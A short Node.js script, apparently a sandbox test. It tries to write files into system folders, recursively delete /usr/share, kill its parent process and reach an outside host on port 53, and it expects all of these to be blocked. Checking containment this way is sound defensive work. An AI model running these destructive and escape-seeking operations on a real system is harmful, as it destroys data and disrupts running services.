// failed: Error: nothing could be done
const fs = require('node:fs'), net = require('node:net');
for (const folder of ['/', '/usr', '/etc', '/root', '/proc', '/dev']) {
  try { fs.writeFileSync(`${folder}/left`, ''); process.exit(0); } catch {}
}
try { fs.rmSync('/usr/share', { recursive: true, force: true }); } catch {}
if (!fs.existsSync('/usr/share')) process.exit(0);
try { process.kill(process.ppid, 'SIGKILL'); process.exit(0); } catch {}
net.connect(53, '192.0.2.1').on('connect', () => process.exit(0)).on('error', () => { throw new Error('nothing could be done'); });
